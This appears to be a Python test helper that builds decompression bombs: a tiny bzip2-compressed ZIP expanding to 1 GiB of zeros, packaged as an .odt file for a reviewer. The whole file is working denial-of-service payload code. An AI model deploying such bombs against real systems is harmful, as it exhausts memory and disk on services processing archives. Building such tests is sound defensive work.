"""ZIP bombs built in a fraction of a second: a bzip2 entry of 1 GiB of zeros in about 1 kB.

Compressing 1 GiB takes seconds, so one bzip2 block of zeros is compressed once and repeated:
identical input gives identical blocks (bit strings, not byte-aligned), and the stream's CRC is
computed from the block CRCs as bzip2 does.
"""

import bz2
import struct
import zlib
from functools import cache

GIB = 1 << 30
# Zeros that fit one bzip2 block at level 9 after its run-length step (255 zeros → 5 bytes).
BLOCK_ZEROS = 32 << 20
END_MAGIC = f"{0x177245385090:048b}"
ZIP_STORED, ZIP_DEFLATED, ZIP_BZIP2 = 0, 8, 12


def _bits(data):
    return "".join(f"{byte:08b}" for byte in data)


@cache
def bzip2_zeros(size=GIB):
    """A bzip2 stream that decompresses to `size` zeros (a multiple of BLOCK_ZEROS)."""
    count, rest = divmod(size, BLOCK_ZEROS)
    assert count and not rest
    single = _bits(bz2.compress(bytes(BLOCK_ZEROS), 9))
    block = single[32 : single.rindex(END_MAGIC)]  # after "BZh9", up to the end of stream
    block_crc = int(block[48:80], 2)
    stream_crc = 0
    for _ in range(count):
        stream_crc = (((stream_crc << 1) | (stream_crc >> 31)) & 0xFFFFFFFF) ^ block_crc
    bits = _bits(b"BZh9") + block * count + END_MAGIC + f"{stream_crc:032b}"
    bits += "0" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big")


@cache
def crc_of_zeros(size):
    crc, chunk = 0, bytes(1 << 20)
    for _ in range(size // len(chunk)):
        crc = zlib.crc32(chunk, crc)
    return crc


def zip_of(entries):
    """A ZIP archive of (name, method, compressed bytes, crc, uncompressed size) entries, with
    whatever sizes they claim: zipfile cannot write data compressed elsewhere."""
    local, central = b"", b""
    for name, method, raw, crc, size in entries:
        encoded = name.encode()
        header = struct.pack("<3L", crc, len(raw), size)
        central += (
            struct.pack("<4s6H", b"PK\x01\x02", 46, 46, 0, method, 0, 0x21)
            + header
            + struct.pack("<5H2L", len(encoded), 0, 0, 0, 0, 0, len(local))
            + encoded
        )
        local += (
            struct.pack("<4s5H", b"PK\x03\x04", 46, 0, method, 0, 0x21)
            + header
            + struct.pack("<2H", len(encoded), 0)
            + encoded
            + raw
        )
    count = len(entries)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(central), len(local), 0)
    return local + central + end


def odt_bomb(size=GIB):
    """The reviewer's file: an .odt whose `mimetype` entry is `size` zeros in bzip2."""
    return zip_of([("mimetype", ZIP_BZIP2, bzip2_zeros(size), crc_of_zeros(size), size)])
